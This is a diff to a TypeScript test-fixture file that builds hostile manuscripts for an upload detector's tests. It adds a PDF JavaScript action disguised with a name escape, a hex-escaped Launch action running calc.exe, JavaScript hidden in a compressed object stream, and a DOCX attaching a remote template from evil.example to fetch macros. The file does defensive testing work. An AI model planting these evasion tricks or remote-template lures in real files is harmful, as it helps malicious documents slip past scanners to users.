@@ -2,7 +2,7 @@
  * Small manuscripts built in code, valid and hostile, for the functions tests, the detector's unit tests and the
  * browser journey: a PDF, an EPUB (mimetype first and stored), a DOCX, and the files the rules refuse.
  */
-import { zipSync, type Zippable } from 'fflate';
+import { zlibSync, zipSync, type Zippable } from 'fflate';
 import { MAX_MANUSCRIPT_BYTES } from '../../contract/book-schemas.ts';
 
 const encoder = new TextEncoder();
@@ -27,7 +27,8 @@ trailer << /Root 1 0 R >>
 
 /** A one-page PDF; `padTo` pads it with a comment to exactly that many bytes. */
 export function pdfBytes(options: { padTo?: number; extra?: string } = {}): Uint8Array {
-  const head = ascii(PDF_BODY + (options.extra ?? ''));
+  // One byte per character: `extra` may carry binary (a compressed stream) as Latin-1 text.
+  const head = Uint8Array.from(PDF_BODY + (options.extra ?? ''), (character) => character.charCodeAt(0));
   const end = ascii('%%EOF\n');
   if (options.padTo === undefined) return concat(head, end);
   const padding = new Uint8Array(options.padTo - head.byteLength - end.byteLength).fill(0x20);
@@ -78,6 +79,45 @@ export const hostileManuscripts = {
   },
   oneByteTooLarge: () => pdfBytes({ padTo: MAX_MANUSCRIPT_BYTES + 1 }),
   empty: () => new Uint8Array(0),
+  /** `/S /Java#53cript`: a legal name escape (#53 is 'S') that readers decode to /JavaScript. */
+  pdfWithEscapedJavaScript: () => pdfBytes({ extra: '4 0 obj << /S /Java#53cript /JS (app.alert(1)) >> endobj\n' }),
+  /** A Launch action spelled with escapes of every letter. */
+  pdfWithEscapedLaunch: () => pdfBytes({ extra: '4 0 obj << /S /#4c#61#75#6e#63#68 /F (calc.exe) >> endobj\n' }),
+  /** The JavaScript action inside a Flate-compressed object stream, where no byte of the file spells it. */
+  pdfWithJavaScriptInObjectStream: () => pdfWithObjectStream('4 0 << /S /JavaScript /JS (app.alert(1)) >>'),
+  /** A DOCX whose settings attach a remote template (how remote macros are fetched when Word opens it). */
+  docxWithRemoteTemplate: () =>
+    docxBytes({
+      'word/_rels/settings.xml.rels': ascii(
+        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
+          '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" ' +
+          'Target="https://evil.example/macros.dotm" TargetMode="External"/></Relationships>',
+      ),
+    }),
 };
+
+/** A PDF whose only extra object lives in a Flate-compressed object stream holding `objects`. */
+export function pdfWithObjectStream(objects: string): Uint8Array {
+  const compressed = zlibSync(ascii(objects));
+  const head = ascii(`5 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${compressed.byteLength} >>\nstream\n`);
+  return pdfBytes({ extra: bytesAsLatin1(concat(head, compressed, ascii('\nendstream\nendobj\n'))) });
+}
+
+/** A DOCX with an ordinary external hyperlink: a link the reader clicks loads nothing when the file opens. */
+export function docxWithHyperlink(): Uint8Array {
+  return docxBytes({
+    'word/_rels/document.xml.rels': ascii(
+      '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
+        '<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" ' +
+        'Target="https://example.org/" TargetMode="External"/></Relationships>',
+    ),
+  });
+}
+
+function bytesAsLatin1(bytes: Uint8Array): string {
+  let text = '';
+  for (const byte of bytes) text += String.fromCharCode(byte);
+  return text;
+}
 
 export { concat as concatBytes };
